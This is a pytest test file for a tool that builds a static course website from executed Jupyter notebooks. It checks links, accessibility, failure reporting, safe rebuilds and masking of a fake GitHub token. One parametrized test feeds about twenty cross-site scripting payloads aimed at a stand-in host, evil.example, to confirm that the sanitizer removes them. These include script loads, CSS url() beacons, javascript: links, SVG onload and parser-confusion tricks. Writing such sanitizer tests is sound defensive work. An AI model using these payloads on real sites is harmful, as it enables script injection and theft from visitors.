"""course.py site: small executed notebooks become pages, which a real browser opens
without a complaint.
"""

import base64
import io
import json
import re
import shutil
from pathlib import Path
from urllib.parse import unquote, urlsplit

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

import course
import utils
from tools.notebooks import run
from tools.web import build as site

pytest.importorskip("nbconvert")
pytestmark = pytest.mark.bonus
# put together, so that no scanner takes this file for a leak
TOKEN = "gh" + "p_" + "a1B2" * 9
SIZES = {"desktop": (1280, 900), "phone": (390, 844)}
TABLE = """<div><style scoped>.dataframe tbody tr th { vertical-align: top; }</style>
<table border="1" class="dataframe">
<thead><tr style="text-align: right;"><th></th><th>name</th><th>value</th></tr></thead>
<tbody>ROWS</tbody></table></div>"""
ROWS = "".join(
    f"<tr><th>{n}</th><td>a name that is long enough to be wide"
    f" {'x' * 300 * n}</td><td>{n}.5</td></tr>"
    for n in range(3)
)
EXERCISE = """## Your turn

**Exercise 1.** Predict.

<details>
<summary>Solution</summary>

```python
answer = 42  # of course
```

</details>
"""


def picture() -> str:
    from PIL import Image

    file = io.BytesIO()
    Image.new("RGB", (1300, 400), "white").save(file, "png")
    return base64.b64encode(file.getvalue()).decode()


def result(kind: str, content: str):
    return new_output(
        "execute_result", data={"text/plain": "", f"text/{kind}": content}
    )


def executed(path: Path, home: str) -> nbformat.NotebookNode:
    """What a run leaves of a notebook: the first cell of the kit's, and a cell of each
    kind of output.
    """
    printed = (
        f"Results in {home}\nread {home}/exports, {Path.home()}/notes,"
        " \x1b[31mred\x1b[0m\n"
    )
    show = new_output(
        "display_data", data={"image/png": picture(), "text/plain": "<Figure>"}
    )
    links = (
        "[the pools](#2--six-pools), [the next](theme2_baseline_model.ipynb),"
        " [nothing](../no.md), [lost](#lost)"
    )
    pools = (
        "| pool | job |\n|---|---|\n| `train` | learns |\n\n###"
        " Detail\n\n![remote](https://example.org/a.png)"
    )
    card = "#### Model card\n\n> Not a device.\n\n#### Checkpoint\n\ntext"
    cells = [
        nbformat.read(path, as_version=4).cells[0],
        new_code_cell(
            "# Bootstrap, the same in all notebooks\nimport sys\n" + "x = 1\n" * 40
        ),
        new_code_cell('SOURCE = "auto"', metadata={"tags": ["parameters"]}),
        new_code_cell(f'HOME = "{home}"', metadata={"tags": ["injected-parameters"]}),
        new_markdown_cell(f"## 1 · What is wrong with it?\n\nSee {links}."),
        new_code_cell(
            'utils.save_figure(course, draw(figure, "one word"), "examples")  #'
            f" {'y' * 200}",
            outputs=[
                new_output("stream", text=printed),
                result("html", TABLE.replace("ROWS", ROWS)),
                show,
            ],
        ),
        new_markdown_cell(f"## 2 · Six pools\n\n{pools}"),
        new_code_cell("Markdown(card)", outputs=[result("markdown", card)]),
        new_code_cell("plot()", outputs=[show]),
        new_code_cell("empty", outputs=[result("html", TABLE.replace("ROWS", ""))]),
        new_markdown_cell(EXERCISE),
        new_markdown_cell("## Checkpoint"),
    ]
    for number, cell in enumerate(
        (cell for cell in cells if cell.cell_type == "code"), 1
    ):
        cell.execution_count = number
    ran = {"HOME": home, "SOURCE": "/srv/somebody/data"}
    ran = {"parameters": ran, "input_path": f"/srv/kit/notebooks/{path.name}"}
    return new_notebook(
        cells=cells, metadata={"papermill": ran, "language_info": {"name": "python"}}
    )


def make_home(root: Path, dataset: str, source: str = "/srv/somebody/data") -> Path:
    """A finished run, made by hand."""
    ran_in = f"/srv/somebody/{dataset}"
    (root / "exports" / "notebooks").mkdir(parents=True)
    for path in run.notebooks(1, 8).values():
        nbformat.write(
            executed(path, ran_in), root / "exports" / "notebooks" / path.name
        )
    meta = {
        "dataset": dataset,
        "source": source,
        "profile": "quick",
        "image_size": 96,
        "seed": 42,
        "hardware": "a CPU",
        "recorded": "2026-01-02 03:04 UTC",
        "environment": {"torch": "2.9", "system": "secret-host"},
    }
    rows = [
        {"name": "accuracy", "value": 0.8512, "target": "> 0.7", "passed": True},
        {"name": "lost", "value": True, "target": "== False", "passed": False},
    ]
    headline = {"baseline_test_accuracy": 0.8512, "gate_passed": False}
    record = {
        "schema": utils.SCHEMA,
        "meta": meta,
        "headline": headline,
        "theme1": {
            "recorded": "2026-01-01 00:00 UTC",
            "pools": {"All": {"train": 321}},
        },
        "criteria": {f"theme{theme}": rows for theme in range(1, 9)},
    }
    utils.write_json(root / "exports" / "results.json", record)
    (root / "exports" / "MODEL_CARD.md").write_text(
        "# Model card: x\n\n## Details\n\nMade in /home/somebody/kit.\n"
    )
    (root / "report").mkdir()
    (root / "report" / "report.pdf").write_bytes(b"%PDF-1.4 report")
    return root


@pytest.fixture(scope="module")
def homes(tmp_path_factory) -> list[Path]:
    root = tmp_path_factory.mktemp("homes")
    return [
        make_home(root / "lungs", "pneumonia"),
        make_home(root / "roofs", "solar", "sample"),
    ]


@pytest.fixture(scope="module")
def built(homes, tmp_path_factory) -> Path:
    """The site of two homes; read only. In a folder with a blank in its name, as on
    many a desktop.
    """
    out = tmp_path_factory.mktemp("out") / "my site"
    assert site.main(["--home", *map(str, homes), "--out", str(out)]) == 0
    return out


@pytest.fixture
def home(homes, tmp_path) -> Path:
    """A private copy of one home, to break."""
    return Path(shutil.copytree(homes[0], tmp_path / "lungs"))


def text(path: Path) -> str:
    return path.read_text(encoding="utf-8")


def soup_of(path: Path):
    from bs4 import BeautifulSoup

    return BeautifulSoup(text(path), "html.parser")


def pages_of(out: Path) -> list[Path]:
    return sorted(out.rglob("*.html"))


def broken_links(out: Path) -> list[str]:
    """Every address of every page that leads to no file of the site or to no place in
    it.
    """
    parsed, broken = {page: soup_of(page) for page in pages_of(out)}, []
    for page, soup in parsed.items():
        for element in soup.find_all(["a", "img", "link", "script"]):
            address = element.get("href") or element.get("src") or ""
            url = urlsplit(address)
            if (
                url.scheme in ("http", "https")
                and element.name == "a"
                or address == "data:,"
            ):
                continue
            target = (page.parent / unquote(url.path)).resolve() if url.path else page
            fine = not url.scheme and (
                not address or target.is_file() and target.is_relative_to(out.resolve())
            )
            if fine and url.fragment:
                fine = (
                    target in parsed
                    and parsed[target].find(id=unquote(url.fragment)) is not None
                )
            if not fine:
                broken.append(f"{page.relative_to(out)}: {address}")
    return broken


CONTRAST = """() => {
  const number = (color) => (color.match(/[\\d.]+/g) || []).map(Number);
  const light = (color) => { const [r, g, b] = number(color).map((v) => v / 255)
    .map((v) => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
  const behind = (element) => { for (let e = element; e; e = e.parentElement) {
    const color = getComputedStyle(e).backgroundColor;
    if (number(color)[3] !== 0) return color; } return "rgb(0, 0, 0)"; };
  const poor = new Set();
  for (const element of document.querySelectorAll("body *")) {
    if (![...element.childNodes].some((node) => node.nodeType === 3 && node.textContent.trim())) continue;
    if (["SCRIPT", "STYLE"].includes(element.tagName)) continue;
    const [a, b] = [light(getComputedStyle(element).color), light(behind(element))].sort((x, y) => y - x);
    const ratio = (a + 0.05) / (b + 0.05);
    if (ratio < 4.5) poor.add(`${element.tagName}.${element.className} ${ratio.toFixed(2)}`);
  }
  return [...poor];
}"""


def look(page) -> list[str]:
    """What a reader would complain about on an open page."""
    page.evaluate(
        "for (const fold of document.querySelectorAll('details')) fold.open = true"
    )
    page.evaluate("for (const image of document.images) image.loading = 'eager'")
    page.wait_for_function("[...document.images].every((image) => image.complete)")
    wide = page.evaluate("document.documentElement.scrollWidth > innerWidth")
    empty = page.evaluate(
        "[...document.images].filter((image) => !image.naturalWidth).map((image) =>"
        " image.src)"
    )
    nameless = page.evaluate(
        "[...document.images].filter((image) => !image.alt).length"
    )
    found = (
        page.problems
        + page.evaluate(CONTRAST)
        + [f"no picture: {address}" for address in empty]
    )
    return (
        found
        + ["it scrolls sideways"] * wide
        + ["a picture without a text"] * bool(nameless)
    )


# --------------------------------------------------------------------------------------
# In the files
# --------------------------------------------------------------------------------------


def test_every_page_is_there_and_every_link_leads_somewhere(built):
    # index, themes and model cards, README and docs
    assert len(pages_of(built)) >= 1 + 2 * 9 + 2
    assert broken_links(built) == []
    assert (built / ".nojekyll").exists() and (
        built / "solar" / "report.pdf"
    ).read_bytes() == b"%PDF-1.4 report"


def test_each_page_has_one_title_and_no_jump_in_its_headings(built):
    for page in pages_of(built):
        soup = soup_of(page)
        levels = [
            int(heading.name[1])
            for heading in soup.main.find_all(re.compile("^h[1-6]$"))
        ]
        assert levels.count(1) == 1 and levels[0] == 1, page
        assert all(
            after <= before + 1
            for before, after in zip(levels, levels[1:], strict=False)
        ), page
        ids = [element["id"] for element in soup.find_all(id=True)]
        assert len(ids) == len(set(ids)), page


def test_nothing_of_the_machine_and_no_traceback_is_on_the_site(built, homes):
    for path in built.rglob("*"):
        if path.suffix in (".html", ".json", ".css"):
            content = text(path)
            for words in (
                "/srv/",
                "/home/",
                str(Path.home()) + "/",
                str(homes[0].parent),
                str(site.KIT),
                "secret-host",
                "Traceback",
                "ipykernel",
            ):
                assert words not in content, (path, words)
    page = soup_of(built / "pneumonia" / "theme1_data_analysis.html").get_text()
    assert (
        "Results in …/pneumonia" in page and "read …/pneumonia/exports, ~/notes" in page
    )


def test_no_page_asks_another_machine_for_anything(built):
    for page in pages_of(built):
        for element in soup_of(page).find_all(["img", "link", "script", "iframe"]):
            address = element.get("src") or element.get("href") or ""
            assert address == "data:," or not re.match(r"(?i)[a-z]+:|//", address), page
    # a picture from elsewhere is its text
    assert "remote" in text(built / "solar" / "theme3_optimization.html")
    assert "url(" not in text(built / "style.css")


def test_theme_page_holds_what_a_reader_needs(built):
    page = soup_of(built / "pneumonia" / "theme2_baseline_model.html")
    bar = {
        link.get_text(" ", strip=True): link["href"]
        for link in page.header.find_all("a")
    }
    assert (
        bar["← Theme 1"] == "theme1_data_analysis.html"
        and bar["Theme 3 →"] == "theme3_optimization.html"
    )
    assert bar["Roofs (drawn)"] == "../solar/theme2_baseline_model.html"
    sections = [link.get_text() for link in page.select("details.contents a")]
    assert sections == [
        "1 · What is wrong with it?",
        "2 · Six pools",
        "Detail",
        "Your turn",
        "Checkpoint",
    ]
    about = " ".join(page.select_one("aside.run").get_text(" ").split())
    for words in (
        "Criteria: 1 of 2 met",
        "accuracy: 0.851 (target > 0.7)",
        "lost: yes (target no)",
        "torch 2.9",
    ):
        assert words in about, words
    about = (
        soup_of(built / "pneumonia" / "theme1_data_analysis.html")
        .select_one("aside.run")
        .get_text()
    )
    assert (
        "Measured on a CPU; profile quick at 96 px, seed 42; 2026-01-01 00:00 UTC."
        in about
    )


def test_plumbing_and_solutions_are_folded_and_code_is_coloured(built):
    page = soup_of(built / "pneumonia" / "theme1_data_analysis.html")
    folds = [fold.summary.get_text() for fold in page.article.find_all("details")]
    assert [words.split()[0] for words in folds] == [
        "Bootstrap",
        "Parameters",
        "Solution",
    ]
    solution = page.find("summary", string="Solution").parent
    assert (
        solution.select_one(".highlight .mi").get_text() == "42"
        and "```" not in page.get_text()
    )


def test_pictures_have_the_caption_of_the_report_or_the_name_of_their_section(built):
    page = soup_of(built / "pneumonia" / "theme1_data_analysis.html")
    first, second = page.find_all("figure")
    assert first.a["href"] == first.img["src"] == "figures/theme1_examples.png"
    assert (
        "drawn at random from the training pool (n = 321)"
        in first.img["alt"]
        == first.figcaption.get_text()
    )
    assert (first.img["width"], first.img["height"]) == ("1300", "400")
    assert "Detail" in second.img["alt"] and second.figcaption is None
    assert (
        (built / "pneumonia" / "figures" / "theme1_examples.png")
        .read_bytes()
        .startswith(b"\x89PNG")
    )


def test_tables_say_what_heads_are_and_that_nothing_is_in_them(built):
    wide, _, empty = soup_of(
        built / "pneumonia" / "theme1_data_analysis.html"
    ).article.find_all("table")
    assert (
        wide.parent["class"] == ["table"] and wide.find_all("th")[1]["scope"] == "col"
    )
    assert wide.tbody.th["scope"] == "row"
    assert [cell.get("class") for cell in wide.tbody.find_all("td")[:2]] == [
        None,
        ["n"],
    ]
    assert empty.tbody.get_text(strip=True) == "no rows"


OUTSIDE = {
    "script": '<script src="//evil.example/a.js">steal()</script>',
    "frame": (
        '<iframe src="https://evil.example"></iframe><object'
        ' data="//evil.example/a"></object>'
    ),
    "listener": (
        '<button onclick="steal()">x</button><p onmouseover="steal()">x</p><details'
        ' ontoggle="steal()" open>'
    ),
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "style": (
        '<style>@import "//evil.example/a.css"; p { background:'
        " url(//evil.example/a.png) }</style>"
    ),
    "style of a table": (
        '<style>#T_1 { background: url("//evil.example/a.png"); width:'
        ' image-set("evil.example/b") } #T_1, body { color: evil.example }</style>'
    ),
    "style of an element": (
        '<p style="background:url(https:evil.example/a); position: fixed">x</p>'
    ),
    "style, escaped": (
        '<p style="background: u\\72l(//evil.example/a); background:'
        ' URL(&#47;/evil.example/a)">x</p>'
    ),
    "pictures": (
        '<img srcset="//evil.example/a 2x"><picture><source'
        ' srcset="//evil.example/a"></picture>'
    ),
    "picture": (
        '<img src="https://evil.example/a.png"><img src="\\\\evil.example\\a"><img'
        ' src=" //evil.example/a">'
    ),
    "drawing in an address": (
        '<img src="data:image/svg+xml,<svg xmlns=evil.example onload=steal()/>">'
    ),
    "field": (
        '<form action="//evil.example"><input type="image"'
        ' src="//evil.example/a"><input name="evil.example">'
    ),
    "old attribute": (
        '<table background="//evil.example/a"><tr><td'
        ' background="//evil.example/a">x</td></tr></table>'
    ),
    "media": (
        '<video poster="//evil.example/a"><track src="//evil.example/b"></video><embed'
        ' src="//evil.example/a">'
    ),
    "SVG": (
        '<svg><image href="//evil.example/a"/><use'
        ' xlink:href="//evil.example/b"/><script>steal()</script></svg>'
    ),
    "link": (
        '<a xlink:href="javascript:steal()" ping="//evil.example">x</a><a'
        ' href="JAVA&#115;cript:steal()">x</a>'
    ),
    "link with blanks": (
        '<a href=" java\tscript:steal()">x</a><a'
        ' href="data:text/html,<script>steal()</script>">x</a>'
    ),
    "MathML": "<math><mtext><style><img src=x onerror=steal()></style></mtext></math>",
    "never closed": '<noscript><p title="</noscript><img src=x onerror=steal()>">x',
    "comment": "<!--><img src=x onerror=steal()> evil.example -->",
}


@pytest.mark.parametrize("name", OUTSIDE)
def test_what_runs_leads_away_or_asks_the_network_is_taken_out_of_an_output(name):
    from bs4 import BeautifulSoup

    piece = site.pages.text_piece(
        f"<div>before {OUTSIDE[name]}</div>\n\nafter", lambda address: None
    )
    soup = BeautifulSoup(piece.body, "html.parser")
    shown = [str(element.attrs) for element in soup.find_all(True)] + [
        style.get_text() for style in soup("style")
    ]
    assert not re.search("evil|steal", " ".join(shown)), piece.body
    assert not soup(
        ["script", "svg", "iframe", "meta", "base", "form", "picture", "template"]
    )
    assert (
        soup.get_text().strip().startswith("before")
        and soup("p")[-1].get_text() == "after"
    )


def test_unclosed_elements_of_an_output_end_with_it(home, tmp_path):
    def change(notebook):
        torn = (
            "</div></div></div><b><table><tr><td>1",
            "<select>",
            "<details><summary>",
        )
        notebook.cells[5].outputs = [result("html", html) for html in torn]

    change_theme(home, 1, change)
    assert site.main(["--home", str(home), "--out", str(tmp_path / "site")]) == 0
    page = soup_of(tmp_path / "site" / "pneumonia" / "theme1_data_analysis.html")
    assert (
        page.find("h2", string="2 · Six pools").find_parent(["table", "details"])
        is None
    )
    cells = page.select("article .cell")
    assert len(cells) == 7 and all(cell.parent is page.article for cell in cells)


def test_tables_of_pandas_keep_their_colours_folds_their_state_and_lists_their_ticks():
    import pandas as pd

    frame = pd.DataFrame({"a": [1.0, 3.0], "b": [2.0, 4.0]})
    styled = (
        frame.style.background_gradient(subset=["a"])
        .bar(subset=["b"])
        .set_caption("Scores")
    )
    styled = styled.set_table_styles([{"selector": "th", "props": "font-weight: bold"}])
    own = (
        "<details open><summary>More</summary>\n\n- [x] a\n- [ ] b\n\n</details>\n\n<p"
        ' style="color: red">x</p>'
    )
    html = styled.to_html()
    body = site.pages.text_piece(f"{html}\n\n{own}", lambda address: None).body
    colours = re.findall(
        r"background-color: #\w+|linear-gradient\(.*?\)|font-weight: bold", html
    )
    assert len(colours) > 4 and all(colour in body for colour in colours)
    identity = re.search(r'id="(T_\w+_row0_col0)"', html)[1]
    assert (
        f"#{identity} {{" in body
        and f'id="{identity}"' in body
        and "<caption>Scores</caption>" in body
    )
    assert (
        '<details open="">' in body
        and body.count('type="checkbox"') == 2
        and body.count("checked") == 1
    )
    assert '<p style="color: red;">x</p>' in body


def test_svg_of_an_output_is_not_taken_over(home, tmp_path):
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg"><script>steal()</script><desc>/srv/x'
        f" {TOKEN}</desc></svg>"
    )
    kinds = {
        "image/svg+xml": svg,
        "text/plain": "<a drawing>",
        "application/pdf": picture(),
    }

    def change(notebook):
        both = new_output("display_data", data=kinds | {"image/png": picture()})
        notebook.cells[5].outputs = [both, new_output("display_data", data=kinds)]

    change_theme(home, 1, change)
    assert site.main(["--home", str(home), "--out", str(tmp_path / "site")]) == 0
    folder = tmp_path / "site" / "pneumonia"
    page = soup_of(folder / "theme1_data_analysis.html")
    outputs = (
        page.find("span", string="save_figure")
        .find_parent(class_="cell")
        .select_one(".output")
    )
    assert (
        outputs.img["src"] == "figures/theme1_examples.png"
        and outputs.pre.get_text() == "<a drawing>"
    )
    assert {path.suffix for path in (folder / "figures").iterdir()} == {".png"}
    assert not [
        path
        for path in folder.rglob("*")
        if path.is_file() and b"steal" in path.read_bytes()
    ]


def test_heads_that_span_rows_do_not_shift_the_columns():
    rows = (
        "<tr><th"
        ' rowspan="2">1</th><th>a</th><td>x</td><td>1.5</td></tr><tr><th>b</th><td>y</td><td>2'
        " %</td></tr>"
    )
    piece = site.pages.text_piece(
        f"<table><tbody>{rows}</tbody></table>", lambda address: None
    )
    assert (
        re.findall(r'<td class="n">(.*?)</td>', piece.body) == ["1.5", "2 %"]
        and 'class="n">x' not in piece.body
    )


def test_links_that_lead_nowhere_become_text_and_are_told(homes, tmp_path, capsys):
    assert site.main(["--home", str(homes[0]), "--out", str(tmp_path / "site")]) == 0
    said = capsys.readouterr().out
    assert "lungs, theme 1: the link to #lost leads nowhere" in said
    assert (
        "lungs, theme 1: the picture https://example.org/a.png is shown as its text"
        in said
    )
    page = soup_of(tmp_path / "site" / "pneumonia" / "theme1_data_analysis.html")
    links = {
        link.get_text(): link["href"]
        for link in page.article.find_all("a")
        if link.get_text()
    }
    assert (
        links["the pools"] == "#2--six-pools"
        and links["the next"] == "theme2_baseline_model.html"
    )
    assert "nothing" not in links and "lost" not in links


def test_drawn_images_are_announced_and_real_ones_are_not(built):
    banner = "mean nothing, medically or otherwise"
    for path in (*(built / "solar").glob("*.html"), built / "index.html"):
        assert banner in text(path), path
    assert not [
        path for path in (built / "pneumonia").glob("*.html") if banner in text(path)
    ]


def test_index_tells_themes_times_figures_and_criteria(built):
    page = soup_of(built / "index.html")
    said = " ".join(page.get_text(" ").split())
    for number, path in run.notebooks(1, 8).items():
        title = nbformat.read(path, as_version=4).cells[0].source.splitlines()[0]
        assert title.removeprefix("# ") in said and page.find(
            "a", href=f"solar/{path.stem}.html"
        ), number
    for words in (
        "8 of 16 criteria met",
        "Time needed:",
        "You will learn",
        "Baseline: test accuracy",
        "85.1 %",
        "a CPU",
        "Not a medical device",
        "2026-01-02 03:04 UTC",
        "chest-xray-pneumonia on Kaggle",
    ):
        assert words in said, words
    assert page.find("a", href="pneumonia/model_card.html") and page.find(
        "a", href="docs/readme.html"
    )
    # the kit is not published
    assert "colab.research.google.com" not in text(built / "index.html")


def test_published_kit_links_to_colab(built, tmp_path, monkeypatch, homes):
    kit = shutil.copytree(site.KIT / "notebooks", tmp_path / "kit" / "notebooks").parent
    shutil.copy(site.KIT / "README.md", kit)
    for path in (*(kit / "notebooks").glob("*.ipynb"), kit / "README.md"):
        path.write_text(path.read_text().replace("OWNER/REPOSITORY", "me/kit"))
    (kit / "docs" / "plan").mkdir(parents=True)
    (kit / "docs" / "plan" / "day 1.png").write_bytes(base64.b64decode(picture()))
    (kit / "docs" / "guide.md").write_text(
        "# Guide\n\n![The first day](plan/day%201.png)"
        " [code](../README.md#two-commands) [license](../README2.md) [theme"
        " 2](../notebooks/theme2_baseline_model.ipynb) [cards](../notebooks)"
    )
    monkeypatch.setattr(site, "KIT", kit)
    monkeypatch.setattr(run, "KIT", kit)
    built = site.build([homes[0]], tmp_path / "site").folder.with_name("site")
    address = "https://colab.research.google.com/github/me/kit/blob/main/notebooks/theme1_data_analysis.ipynb"
    for page in ("index.html", "pneumonia/theme1_data_analysis.html"):
        assert soup_of(built / page).find("a", href=address), page
    guide = soup_of(built / "docs" / "guide.html")
    links = {link.get_text(): link["href"] for link in guide.article.find_all("a")}
    assert links == {
        "code": "readme.html#two-commands",
        "theme 2": "../pneumonia/theme2_baseline_model.html",
        "cards": "https://github.com/me/kit/blob/main/notebooks",
    }
    assert guide.article.img["alt"] == "The first day" and soup_of(
        built / "index.html"
    ).find("a", string="Guide")
    assert broken_links(built) == []


def test_pictures_of_the_building_machine_are_not_taken_over(homes, tmp_path):
    mine = tmp_path / "mine.png"
    mine.write_bytes(base64.b64decode(picture()))
    site_ = site.Site(tmp_path / "site", [], site.open_stories(homes[:1]))
    for address in (str(mine), f"../../..{mine}", f"{'../' * 20}{mine}"):
        assert site.resolve(site_, "notebooks", "pneumonia", address) is None, address
    assert not (tmp_path / "site").exists()


def test_the_same_homes_give_the_same_bytes(built, homes, tmp_path):
    site.build(homes, tmp_path / "again")
    for path in built.rglob("*"):
        if path.is_file():
            assert (
                path.read_bytes()
                == (tmp_path / "again" / path.relative_to(built)).read_bytes()
            ), path


# --------------------------------------------------------------------------------------
# What goes wrong
# --------------------------------------------------------------------------------------


def break_theme(home: Path, number: int, change) -> Path:
    """Leave what a failed run of a theme leaves, beside the copy of an earlier run that
    went well.
    """
    good = home / "exports" / "notebooks" / run.notebooks(number, number)[number].name
    notebook = nbformat.read(good, as_version=4)
    change(notebook)
    failed = run.failed_copy(good.parent, good)
    nbformat.write(notebook, failed)
    return failed


def change_theme(home: Path, number: int, change) -> None:
    """Change what a run that went well has left of a theme."""
    path = home / "exports" / "notebooks" / run.notebooks(number, number)[number].name
    notebook = nbformat.read(path, as_version=4)
    change(notebook)
    nbformat.write(notebook, path)


def raise_in_cell(notebook) -> None:
    trace = [
        "\x1b[31m---\x1b[0m",
        "ValueError  Traceback (most recent call last)",
        'File "/srv/kit/utils.py", line 3',
    ]
    notebook.cells[5].outputs = [
        new_output(
            "error", ename="ValueError", evalue="the dog <ate> it", traceback=trace
        )
    ]
    marks = {"tags": ["papermill-error-cell-tag"]}
    notebook.cells.insert(
        5,
        new_markdown_cell(
            '<span id="papermill-error-cell">here</span>', metadata=marks
        ),
    )
    notebook.cells.insert(
        0,
        new_markdown_cell('<a href="#papermill-error-cell">In [4]</a>', metadata=marks),
    )


def test_failed_theme_has_a_page_that_says_so_and_the_build_ends_with_1(
    home, tmp_path, capsys, browse
):
    break_theme(home, 3, raise_in_cell)
    out = tmp_path / "site"
    assert site.main(["--home", str(home), "--out", str(out)]) == 1
    assert (
        "✗ lungs, theme 3 (failed): ValueError: the dog <ate> it"
        in capsys.readouterr().out
    )
    page = soup_of(out / "pneumonia" / "theme3_optimization.html")
    box = page.main.select_one("[role=alert]")
    assert (
        "did not run to its end" in box.get_text()
        and "ValueError: the dog <ate> it" in box.get_text()
    )
    assert "draw(figure" in page.find(
        id="stopped"
    ).get_text() and "papermill" not in str(page)
    assert (
        page.find(id="stopped").select_one(".error strong").get_text() == "ValueError"
    )
    assert page.select_one("aside.run") is None  # its figures are of an earlier run
    assert "Not complete: theme 3 failed" in " ".join(
        soup_of(out / "index.html").get_text().split()
    )
    assert (
        broken_links(out) == []
        and len(pages_of(out)) >= 12
        and "/srv/" not in str(page)
    )
    for size in SIZES.values():
        shown = browse((out / "pneumonia" / "theme3_optimization.html").as_uri(), *size)
        assert shown.locator("[role=alert]").is_visible() and look(shown) == []


def test_error_of_ours_is_one_sentence(home, tmp_path):
    def change(notebook):
        said = "There is no GPU: choose another profile."
        notebook.cells[5].outputs = [
            new_output("error", ename="CourseError", evalue=said, traceback=[said])
        ]

    break_theme(home, 2, change)
    site.main(["--home", str(home), "--out", str(tmp_path / "site")])
    page = soup_of(tmp_path / "site" / "pneumonia" / "theme2_baseline_model.html")
    said = " ".join(page.select_one("[role=alert] p").get_text().split())
    assert (
        said
        == "This theme did not run to its end. There is no GPU: choose another profile."
    )
    assert page.find("summary", string="Where it happened") is None


def test_killed_kernel_missing_damaged_and_clean_notebooks_are_told_apart(
    home, tmp_path, capsys
):
    def kill(notebook):
        notebook.cells[5].update(execution_count=None, outputs=[])

    break_theme(home, 1, kill)
    folder = home / "exports" / "notebooks"
    (folder / "theme2_baseline_model.ipynb").unlink()
    (folder / "theme3_optimization.ipynb").write_text('{"cells": [')
    shutil.copy(site.KIT / "notebooks" / "theme4_onnx_deployment.ipynb", folder)
    for name, cells in {
        "theme5_monitoring": 3,
        "theme6_drift_detection": [{"cell_type": "code"}],
    }.items():
        content = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
        (folder / f"{name}.ipynb").write_text(json.dumps(content))
    out = tmp_path / "site"
    assert site.main(["--home", str(home), "--out", str(out)]) == 1
    said = capsys.readouterr().out
    for words in (
        "theme 1 (failed): A cell never finished: its kernel was killed",
        "theme 2 (not run): Theme 2 has not been run",
        "theme 3 (damaged): theme3_optimization.ipynb is damaged: run its theme again",
        "theme 4 (failed): It was not executed",
        "theme 5 (damaged)",
        "theme 6 (damaged)",
        "2 of 8 themes",
    ):
        assert words in said, words
    assert broken_links(out) == []
    for page in (out / "pneumonia").glob("theme[1-5]*.html"):
        assert len(soup_of(page).find_all("h1")) == 1 and soup_of(page).select_one(
            "[role=alert]"
        ), page


def test_home_without_a_run_is_told_in_one_sentence(tmp_path, capsys):
    assert (
        site.main(
            ["--home", str(tmp_path / "nowhere"), "--out", str(tmp_path / "site")]
        )
        == 2
    )
    said = capsys.readouterr().out
    assert (
        said.count("\n") == 1
        and "nowhere holds no executed notebook: run the course there first" in said
    )
    assert not (tmp_path / "site").exists()


def test_damaged_record_is_told_and_the_earlier_site_stays(home, tmp_path, capsys):
    out = tmp_path / "site"
    assert site.main(["--home", str(home), "--out", str(out)]) == 0
    before = text(out / "index.html")
    (home / "exports" / "results.json").write_text('{"meta": ')
    assert site.main(["--home", str(home), "--out", str(out)]) == 2
    assert (
        "results.json is damaged" in capsys.readouterr().out
        and text(out / "index.html") == before
    )


def test_theme_1_that_failed_before_any_record_can_be_shown(home, tmp_path):
    shutil.rmtree(home / "exports" / "MODEL_CARD.md", ignore_errors=True)
    (home / "exports" / "results.json").unlink()
    (home / "course.json").write_text('{"dataset": "solar"}')
    break_theme(home, 1, raise_in_cell)
    assert site.main(["--home", str(home), "--out", str(tmp_path / "site")]) == 1
    assert (tmp_path / "site" / "solar" / "theme1_data_analysis.html").exists()


def test_interrupted_build_keeps_the_earlier_site_and_leaves_nothing_behind(
    homes, tmp_path, monkeypatch
):
    out = tmp_path / "site"
    site.build(homes[:1], out)
    before = {path: path.read_bytes() for path in out.rglob("*") if path.is_file()}

    def stop(*arguments):
        raise KeyboardInterrupt

    with monkeypatch.context() as patch:
        patch.setattr(site, "write_texts", stop)
        with pytest.raises(KeyboardInterrupt):
            site.build(homes, out)
    assert {
        path: path.read_bytes() for path in out.rglob("*") if path.is_file()
    } == before
    assert [path.name for path in tmp_path.iterdir()] == ["site"]


def test_build_killed_between_its_renames_loses_nothing(homes, tmp_path):
    out = tmp_path / "site"
    site.build(homes[:1], out)
    before = text(out / "index.html")
    out.rename(tmp_path / ".site.old")
    with pytest.raises(ZeroDivisionError), site.replacing(out):
        1 / 0  # noqa: B018
    assert text(out / "index.html") == before and [
        path.name for path in tmp_path.iterdir()
    ] == ["site"]


def test_rename_that_fails_puts_the_earlier_site_back(homes, tmp_path, monkeypatch):
    out = tmp_path / "site"
    site.build(homes[:1], out)
    before = text(out / "index.html")

    def refuse(*arguments):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(utils.os, "replace", refuse)
    with pytest.raises(utils.CourseError), site.replacing(out) as folder:
        (folder / "index.html").write_text("new")
    assert text(out / "index.html") == before


@pytest.mark.parametrize("what", ["folder", "file"])
def test_what_is_no_site_is_never_replaced(homes, tmp_path, capsys, what):
    out = tmp_path / "thesis"
    mine = out / "chapter.txt" if what == "folder" else out
    mine.parent.mkdir(exist_ok=True)
    mine.write_text("years of work")
    assert site.main(["--home", str(homes[0]), "--out", str(out)]) == 2
    assert (
        "thesis holds something else than a site: name another folder with --out"
        in capsys.readouterr().out
    )
    assert mine.read_text() == "years of work"


def test_secret_in_an_output_is_masked_and_told(home, tmp_path, capsys):
    path = home / "exports" / "notebooks" / "theme1_data_analysis.ipynb"
    path.write_text(path.read_text().replace("Results in", f"token {TOKEN} in"))
    assert site.main(["--home", str(home), "--out", str(tmp_path / "site")]) == 0
    assert (
        "theme 1: a GitHub token (ghp_…) was masked: revoke it"
        in capsys.readouterr().out
    )
    assert not [page for page in pages_of(tmp_path / "site") if TOKEN in text(page)]
    assert "token ghp_…" in text(
        tmp_path / "site" / "pneumonia" / "theme1_data_analysis.html"
    )


def test_two_homes_of_one_dataset_stand_side_by_side(home, tmp_path, homes):
    out = tmp_path / "site"
    other = Path(shutil.copytree(home, tmp_path / "my run!"))
    assert (
        site.main(
            ["--home", str(home), "--home", str(other), str(home), "--out", str(out)]
        )
        == 0
    )
    assert {path.name for path in out.iterdir() if path.is_dir()} >= {
        "pneumonia",
        "my-run-",
    }
    cards = [card.h3.get_text() for card in soup_of(out / "index.html").select(".card")]
    assert cards == ["Chest X-rays", "Chest X-rays, my run!"]
